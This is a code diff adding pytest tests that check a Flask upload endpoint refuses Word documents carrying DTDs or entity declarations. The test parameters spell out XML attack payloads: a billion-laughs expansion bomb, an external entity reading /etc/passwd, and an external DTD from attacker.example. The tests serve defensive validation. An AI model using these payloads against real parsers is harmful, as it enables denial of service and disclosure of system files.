@@ -337,6 +337,60 @@ class TestDocuments:
         assert response.status_code == 200 and message in _page(response)
         assert db.session.scalar(select(func.count()).select_from(Document)) == 0
 
+    @pytest.mark.parametrize(
+        "doctype",
+        [
+            pytest.param(  # &lol; expands to 10^9 "lol"s
+                '<!DOCTYPE w:document [<!ENTITY lol0 "lol">'
+                + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 9))
+                + '<!ENTITY lol "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>',
+                id="billion-laughs",
+            ),
+            pytest.param(
+                '<!DOCTYPE w:document [<!ENTITY lol SYSTEM "file:///etc/passwd">]>',
+                id="external-entity",
+            ),
+            pytest.param(
+                '<!DOCTYPE w:document SYSTEM "http://attacker.example/evil.dtd">',
+                id="external-dtd",
+            ),
+        ],
+    )
+    @pytest.mark.parametrize("kind", ["cv", "certificate"])
+    def test_docx_with_a_dtd_is_refused(
+        self, app: Flask, client: FlaskClient, expert: ExpertProfile, doctype: str, kind: str
+    ) -> None:
+        ns = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+        document = (
+            f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{ns}"><w:body>'
+            "<w:p><w:r><w:t>manage budgets &lol;</w:t></w:r></w:p></w:body></w:document>"
+        )
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
+            archive.writestr("word/document.xml", document)
+        uploads = Path(app.config["UPLOAD_DIR"])
+        files_before = set(uploads.iterdir()) if uploads.exists() else set()
+
+        response = _upload(client, buffer.getvalue(), "cv.docx", kind=kind)
+
+        assert response.status_code == 200
+        page = _page(response)
+        assert "Word documents with a DTD or entity declarations are not accepted." in page
+        assert db.session.scalar(select(func.count()).select_from(Document)) == 0
+        assert (set(uploads.iterdir()) if uploads.exists() else set()) == files_before
+
+    def test_docx_whose_body_is_not_xml_is_refused(
+        self, client: FlaskClient, expert: ExpertProfile
+    ) -> None:
+        buffer = io.BytesIO()
+        with zipfile.ZipFile(buffer, "w") as archive:
+            archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
+            archive.writestr("word/document.xml", "this is not XML")
+        response = _upload(client, buffer.getvalue(), "cv.docx", kind="other")
+        assert "This file is damaged or not a Word document." in _page(response)
+        assert db.session.scalar(select(func.count()).select_from(Document)) == 0
+
     def test_path_in_the_name_is_neutralised(
         self, client: FlaskClient, expert: ExpertProfile
     ) -> None:
